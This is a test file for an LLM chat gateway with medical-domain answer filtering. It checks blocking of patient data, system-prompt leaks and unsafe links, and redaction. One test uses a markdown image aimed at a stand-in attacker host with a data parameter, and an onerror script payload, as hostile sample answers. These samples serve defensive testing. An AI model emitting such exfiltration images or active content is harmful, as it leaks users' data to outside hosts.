import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { chat, chatAnswer, startGateway, type Harness } from './gateway-helpers.js';

let h: Harness;
before(async () => {
  h = await startGateway({ config: { policy: { linkAllowlist: ['*.nice.org.uk'] } } });
});
after(() => h.close());

async function ask(answer: string, question = 'What is the first-line treatment for type 2 diabetes?', extra: Record<string, unknown> = {}): Promise<{ status: number; text: string }> {
  h.stub.handler = (_req, res) => chatAnswer(res, answer);
  const r = await h.post('/v1/chat/completions', { ...chat(question), ...extra });
  return { status: r.status, text: await r.text() };
}

const code = (text: string): string | undefined => (JSON.parse(text) as { error?: { code: string } }).error?.code;

test('an answer with PHI the request did not contain is blocked without echoing it', async () => {
  const r = await ask('Call Mrs Jane Doe on 212-555-0199 with the result.');
  assert.equal(r.status, 403);
  assert.equal(code(r.text), 'MG_BLOCKED_PHI');
  assert.doesNotMatch(r.text, /212-555-0199|Jane Doe/);
});

test('PHI the request already carried may come back (outputPhi: new)', async () => {
  const r = await ask('Yes, 617-555-0123 is the number on file.', 'Is 617-555-0123 the right callback number for the clinic?');
  assert.equal(r.status, 200);
  assert.match(r.text, /617-555-0123/);
});

test('the system-prompt canary in an answer is a prompt leak', async () => {
  h.stub.handler = (_req, res, body) => {
    const system = (body.messages as { role: string; content: string }[])[0]!.content;
    chatAnswer(res, `Sure. ${system}`);
  };
  const r = await h.post('/v1/chat/completions', { model: 'm', messages: [{ role: 'system', content: 'You are a ward assistant.' }, { role: 'user', content: 'What is the dose of ceftriaxone for meningitis?' }] });
  assert.equal(r.status, 403);
  assert.equal(code(await r.text()), 'MG_BLOCKED_PROMPT_LEAK');
});

test('images from hosts off the allowlist and active content are blocked; allowed hosts pass', async () => {
  let r = await ask('Here is a chart: ![chart](https://collect.evil.example/p.png?d=abc)');
  assert.equal(code(r.text), 'MG_BLOCKED_EXFILTRATION');
  r = await ask('See <img src=x onerror="fetch(1)"> for details.');
  assert.equal(code(r.text), 'MG_BLOCKED_ACTIVE_CONTENT');
  r = await ask('Metformin first line, see [NICE NG28](https://www.nice.org.uk/guidance/ng28).');
  assert.equal(r.status, 200);
});

test('a response action of redact replaces the value and keeps the answer', async () => {
  const g = await startGateway({ config: { policy: { response: { phi: 'redact' } } } });
  g.stub.handler = (_req, res) => chatAnswer(res, 'Call the patient on 212-555-0199 with the result.');
  const r = await g.post('/v1/chat/completions', chat('When are lipid results usually back?'));
  assert.equal(r.status, 200);
  const body = (await r.json()) as { choices: { message: { content: string } }[] };
  assert.equal(body.choices[0]!.message.content, 'Call the patient on [PHONE] with the result.');
  const e = (await g.store.waitFor(1))[0]!;
  assert.equal(e.verdict, 'redact');
  await g.close();
});
